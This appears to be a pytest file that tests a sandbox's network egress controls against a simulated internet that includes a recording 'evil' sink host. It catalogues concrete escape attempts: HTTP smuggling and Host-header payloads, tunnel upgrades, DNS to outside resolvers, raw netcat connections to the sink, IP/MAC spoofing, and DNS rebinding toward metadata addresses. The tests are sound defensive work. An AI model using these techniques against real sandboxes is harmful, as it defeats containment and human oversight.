"""Network attacks from inside a sandbox (docs/security.md, "Egress";
EGRESS.md's catalogue), against the test internet of tests/netlab.py. Each
test first makes the legitimate request succeed (its control), then runs its
attacks; an attack passes only if it fails: no answer from where it aimed,
and SINK — the evil host, which records everything that reaches it — saw
nothing."""

import os
import sys
import time

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import netlab  # noqa: E402
from netlab import EGRESS_ADDR, HELLO, ORIGIN, RESOLVER, SINK, http_get, internet, net_log, sh  # noqa: E402,F401


def raw_http(request, addr=ORIGIN, port=80):
    """A shell line sending request bytes (printf escapes) to addr:port."""
    return f"printf '{request}' | nc -w 3 {addr} {port}; echo rc=$?"


# (id, attack, the bytes the guest sends to ORIGIN:80 as one connection)
HTTP_ATTACKS = [
    ("H1-absolute-form", "absolute-form target naming a denied host, Host allowed",
     "GET http://e.test/echo HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n"),
    ("H1-absolute-form-host", "absolute-form target allowed, Host denied",
     "GET http://a.test/echo HTTP/1.1\\r\\nHost: e.test\\r\\n\\r\\n"),
    ("H2-duplicate-host", "two Host headers, the second denied",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nHost: e.test\\r\\n\\r\\n"),
    ("H2-no-host", "HTTP/1.0 without Host to the allowed address",
     "GET /echo HTTP/1.0\\r\\n\\r\\n"),
    ("H2-suffix-host", "a Host that ends like nothing allowed but starts like it",
     "GET /echo HTTP/1.1\\r\\nHost: a.test.e.test\\r\\n\\r\\n"),
    ("H2-host-userinfo", "userinfo trick in Host",
     "GET /echo HTTP/1.1\\r\\nHost: a.test@e.test\\r\\n\\r\\n"),
    ("H2-host-nul", "a NUL inside Host",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\000.e.test\\r\\n\\r\\n"),
    ("H2-host-ip", "the allowed address as Host",
     f"GET /echo HTTP/1.1\\r\\nHost: {ORIGIN}\\r\\n\\r\\n"),
    ("H4-connect", "CONNECT through the transparent relay",
     "CONNECT e.test:443 HTTP/1.1\\r\\nHost: e.test:443\\r\\n\\r\\n"),
    ("H7-websocket", "a WebSocket upgrade (a tunnel afterwards)",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
     "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"),
    ("H7-h2c", "an h2c upgrade",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nUpgrade: h2c\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n"
     "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\\r\\n\\r\\n"),
    ("H7-h2-preface", "HTTP/2 with prior knowledge (the preface is not HTTP/1)",
     "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"),
    ("H8-cl-te", "Content-Length and Transfer-Encoding together (CL.TE smuggling)",
     "POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
     "0\\r\\n\\r\\nGET /echo HTTP/1.1\\r\\nHost: e.test\\r\\n\\r\\n"),
    ("H8-te-obfuscated", "an obfuscated Transfer-Encoding",
     "POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n"),
    ("H8-double-cl", "two Content-Lengths",
     "POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 0\\r\\nContent-Length: 40\\r\\n\\r\\n"),
    ("H9-bare-cr", "a bare CR inside a header value",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nX-A: 1\\rHost: e.test\\r\\n\\r\\n"),
    ("H9-obs-fold", "a folded header line",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nX-A: 1\\r\\n Host: e.test\\r\\n\\r\\n"),
    ("H11-ssh", "SSH on the allowed host's port 80 (not HTTP)",
     "SSH-2.0-OpenSSH_9.2\\r\\n"),
    ("H11-smtp", "SMTP on the allowed host's port 80",
     "EHLO e.test\\r\\nMAIL FROM:<a@e.test>\\r\\n"),
]


def test_http_attacks_under_an_allowlist(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create(network={"allow": [{"host": "a.test"}]})["id"]
    # the controls: the allowed name, resolved through the gateway (which
    # binds it to ORIGIN), in its canonical and in odd spellings
    sh(a, sid, "nslookup a.test")
    for host in ("a.test", "A.TEST", "a.test."):
        _, out = sh(a, sid, raw_http(f"GET /echo HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n"))
        assert "200 OK" in out and '"path": "/echo"' in out, (host, out)
    failures = []
    for ident, what, request in HTTP_ATTACKS:
        _, out = sh(a, sid, raw_http(request))
        if "200 OK" in out or '"path"' in out:
            failures.append(f"{ident} ({what}) got through: {out[:300]!r}")
    assert not failures, "\n".join(failures)
    denied = [e for e in net_log(a, sid) if e["action"] == "deny" and e["kind"] == "tcp"]
    assert len(denied) >= len(HTTP_ATTACKS), denied
    assert internet.sink_hits() == []


# (id, attack, a shell line run in the guest, under an allowlist of a.test)
GUEST_ATTACKS = [
    ("D1-etc-hosts", "the guest's /etc/hosts maps the allowed name to SINK",
     f"echo '{SINK} a.test' >> /etc/hosts; " + http_get("a.test")),
    ("D3-udp-resolver", "DNS over UDP to an outside resolver",
     f"nslookup a.test {SINK}; nslookup a.test {RESOLVER}"),
    ("D3-tcp-resolver", "DNS over TCP to an outside resolver",
     f"printf '\\000\\034\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000"
     f"\\001a\\004test\\000\\000\\001\\000\\001' | nc -w 3 {SINK} 53"),
    ("D3-dot", "DNS over TLS (853) to an outside resolver", f"echo x | nc -w 3 {SINK} 853"),
    ("I1-raw-tcp", "raw TCP to SINK:22", f"echo SSH-2.0-x | nc -w 3 {SINK} 22"),
    ("I1-raw-tcp-allowed-addr", "raw TCP to the allowed host's address on another port",
     f"echo x | nc -w 3 {ORIGIN} 5432"),
    ("U1-quic", "UDP to SINK:443 (QUIC)", f"echo x | nc -u -w 1 {SINK} 443"),
    ("U2-ntp", "UDP to SINK:123", f"echo x | nc -u -w 1 {SINK} 123"),
    ("U2-mdns", "multicast DNS", "echo x | nc -u -w 1 224.0.0.251 5353"),
    ("U2-broadcast", "broadcast on the sandbox's link", "echo x | nc -u -w 1 10.200.0.3 5353"),
    ("I8-icmp", "ICMP echo to SINK (a tunnel's carrier)", f"ping -c 2 -W 1 {SINK}"),
    ("I2-ipv6", "IPv6 to SINK through the NAT64 prefix", "echo x | nc -w 2 64:ff9b::c612:42 80"),
    ("I2-ipv6-link-local", "IPv6 link-local to the gateway", "echo x | nc -w 2 fe80::a1:cff:fe00:1%eth0 80"),
]


def test_guest_attacks_under_an_allowlist(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create(network={"allow": [{"host": "a.test"}]})["id"]
    _, out = sh(a, sid, http_get("a.test"))  # the control
    assert HELLO in out, out
    failures = []
    for ident, what, script in GUEST_ATTACKS:
        t0 = time.monotonic()
        _, out = sh(a, sid, script)
        if HELLO in out or f"Address: {ORIGIN}" in out.split("Server:")[-1]:
            failures.append(f"{ident} ({what}) got an answer: {out[:300]!r}")
        if time.monotonic() - t0 > 12:
            failures.append(f"{ident} ({what}) hung for {time.monotonic() - t0:.0f}s")
    assert not failures, "\n".join(failures)
    assert internet.sink_hits() == []
    # and the resolver heard nothing but what the gateway asked for a.test
    assert set(internet.dns_queries()) <= {"a.test"}, internet.dns_queries()


def test_spoofed_source_address_and_mac_never_leave(airlock_factory, internet):
    """Under allow-all SINK is reachable: the control reaches it; the same
    connection from a forged source address or MAC never does. Two layers
    hold this: the tap's filter drops another source or MAC, and behind it
    nothing routes a reply to a forged address (no route out of the VMM's
    namespace) or a forged MAC (a static neighbour entry for the guest's
    own): breaking the filter alone leaves the second standing."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create()["id"]
    _, out = sh(a, sid, f"echo control | nc -w 3 {SINK} 80")
    deadline = time.monotonic() + 5
    while not any(h["data"].startswith("control") for h in internet.sink_hits()):
        assert time.monotonic() < deadline, f"the control never reached SINK: {out}"
        time.sleep(0.05)
    sh(a, sid, "ip addr add 10.200.0.1/32 dev eth0 2>&1; ip addr add 198.18.0.99/32 dev eth0; "
               f"echo spoofed-gw | nc -w 2 -s 10.200.0.1 {SINK} 80; "
               f"echo spoofed-inet | nc -w 2 -s 198.18.0.99 {SINK} 80; "
               "ip addr del 198.18.0.99/32 dev eth0; ip addr del 10.200.0.1/32 dev eth0; true")
    sh(a, sid, "ip link set eth0 down; ip link set eth0 address 02:a1:0c:00:00:09; ip link set eth0 up; "
               "ip route add default via 10.200.0.1 2>/dev/null; "
               f"echo spoofed-mac | nc -w 2 {SINK} 80; "
               "ip link set eth0 down; ip link set eth0 address 02:a1:0c:00:00:02; ip link set eth0 up; "
               "ip route add default via 10.200.0.1; true")
    # the control again, after the guest put its identity back
    _, out = sh(a, sid, f"echo again | nc -w 3 {SINK} 80")
    deadline = time.monotonic() + 5
    while not any(h["data"].startswith("again") for h in internet.sink_hits()):
        assert time.monotonic() < deadline, f"the network did not come back: {out}"
        time.sleep(0.05)
    got = [h["data"].split("\n")[0] for h in internet.sink_hits()]
    assert not any(d.startswith("spoofed") for d in got), got


def test_another_sandbox_and_the_gateway_are_out_of_reach(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal", env=internet.env())
    victim = a.create()["id"]
    attacker = a.create()["id"]
    a.exec(victim, ["sh", "-c", "(nc -l -p 8000 > /tmp/got &) ; sleep 0.2"])
    # the control: the victim reaches its own service
    _, out = sh(a, victim, "echo self | nc -w 2 127.0.0.1 8000; sleep 0.2; cat /tmp/got")
    assert "self" in out, out
    a.exec(victim, ["sh", "-c", "(nc -l -p 8000 > /tmp/got &) ; sleep 0.2"])
    for target in ("10.200.0.2:8000", "10.200.0.1:8000", "10.200.0.1:15001", "10.200.0.1:22",
                   f"{EGRESS_ADDR}:8000"):
        addr, port = target.split(":")
        sh(a, attacker, f"echo from-attacker | nc -w 2 {addr} {port}")
    _, got = sh(a, victim, "cat /tmp/got")
    assert "from-attacker" not in got, f"the other sandbox's service got: {got!r}"
    denied = {e.get("addr") for e in net_log(a, attacker) if e["action"] == "deny"}
    assert {"10.200.0.1", EGRESS_ADDR} <= denied, denied


@pytest.mark.parametrize("name", ["internal.test", "meta.test"])
def test_rebinding_to_internal_addresses_under_an_allowlist(airlock_factory, internet, name):
    """An allowed name whose upstream answer points inside (10/8, the
    metadata address): the answer's addresses are dropped, and a connection
    by that name to the address is refused."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create(network={"allow": [{"host": name}, {"host": "a.test"}]})["id"]
    _, out = sh(a, sid, "nslookup a.test")  # the control
    assert ORIGIN in out, out
    internal = netlab.ZONES[name]
    _, out = sh(a, sid, f"nslookup {name}; " + http_get(name, internal))
    assert internal not in out.split("rc=")[0].split("Non-authoritative answer:")[-1], out
    entries = net_log(a, sid)
    assert any(e.get("name") == name and e["kind"] == "dns" and e["action"] == "deny" for e in entries), entries
    assert any(e.get("addr") == internal and e["action"] == "deny" for e in entries), entries

